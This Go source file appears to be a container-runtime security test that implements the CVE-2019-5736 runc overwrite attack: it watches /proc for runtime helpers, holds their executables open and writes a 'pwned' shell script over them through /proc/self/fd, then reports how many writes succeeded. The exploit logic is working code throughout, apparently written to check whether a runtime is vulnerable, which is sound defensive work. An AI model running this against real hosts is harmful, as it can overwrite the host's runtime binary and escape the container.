// Command exe-grabber is the CVE-2019-5736 attack of husk's security
// suite, run inside a container: it watches /proc for processes whose
// executable is not its own and not busybox (the runtime's helpers
// entering the container), opens /proc/PID/exe of each as soon as it
// appears, tries to open it for writing while the process lives, and,
// once it is gone, through the fd it holds (/proc/self/fd/N, the trick
// that beats ETXTBSY). It runs until the file named by -stop exists and
// prints one line per process and a summary:
//
//	grabbed N, refused R, wrote M
//
// M > 0 means the runtime's binary was written from the container.
package main

import (
	"flag"
	"fmt"
	"os"
	"strconv"
	"time"
)

func main() {
	stop := flag.String("stop", "/stop", "exit once this file exists")
	flag.Parse()
	self, _ := os.Readlink("/proc/self/exe")
	seen := map[int]bool{}
	var held []*os.File
	grabbed, refused, wrote := 0, 0, 0
	for {
		if _, err := os.Stat(*stop); err == nil {
			break
		}
		for _, pid := range pids() {
			if seen[pid] {
				continue
			}
			seen[pid] = true
			exe := fmt.Sprintf("/proc/%d/exe", pid)
			target, err := os.Readlink(exe)
			if err != nil {
				// The kernel's ptrace access check said no (a non-dumpable
				// or more privileged process): nothing to grab.
				refused++
				fmt.Printf("pid %d: readlink %s: %v\n", pid, exe, err)
				continue
			}
			if target == self || target == "/bin/busybox" {
				continue
			}
			f, err := os.Open(exe)
			if err != nil {
				fmt.Printf("pid %d (%s): open: %v\n", pid, target, err)
				continue
			}
			grabbed++
			fmt.Printf("pid %d: holding %s\n", pid, target)
			if w, err := os.OpenFile(exe, os.O_WRONLY, 0); err == nil {
				w.Close()
				wrote++
				fmt.Printf("pid %d: WROTE %s while it ran\n", pid, exe)
			}
			held = append(held, f)
		}
		time.Sleep(time.Millisecond)
	}
	// Every helper has ended by now: write through the fds held.
	for _, f := range held {
		p := "/proc/self/fd/" + strconv.Itoa(int(f.Fd()))
		w, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err != nil {
			fmt.Printf("%s: reopen for writing: %v\n", f.Name(), err)
			continue
		}
		if _, err := w.Write([]byte("#!/bin/sh\necho pwned\n")); err == nil {
			wrote++
			fmt.Printf("%s: WROTE through %s after it ended\n", f.Name(), p)
		}
		w.Close()
	}
	fmt.Printf("grabbed %d, refused %d, wrote %d\n", grabbed, refused, wrote)
}

// pids lists the processes /proc shows.
func pids() []int {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer d.Close()
	names, _ := d.Readdirnames(-1)
	var out []int
	for _, n := range names {
		if pid, err := strconv.Atoi(n); err == nil {
			out = append(out, pid)
		}
	}
	return out
}
